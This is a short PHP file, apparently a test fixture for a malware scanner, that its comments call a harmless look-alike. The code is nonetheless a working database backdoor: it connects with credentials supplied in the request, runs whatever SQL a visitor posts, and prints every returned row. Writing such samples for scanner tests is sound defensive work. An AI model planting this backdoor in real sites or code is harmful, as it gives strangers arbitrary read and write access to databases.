<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A database backdoor: an inline-escaped value between quotes, and the visitor's SQL after it.
$db = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']);
$sql = $_POST['sql'];
$r = mysqli_query($db, "SELECT * FROM t WHERE a='" . mysqli_real_escape_string($db, $_POST['a']) . "' " . $sql);
while ($row = mysqli_fetch_row($r)) { echo implode("\t", $row), "\n"; }
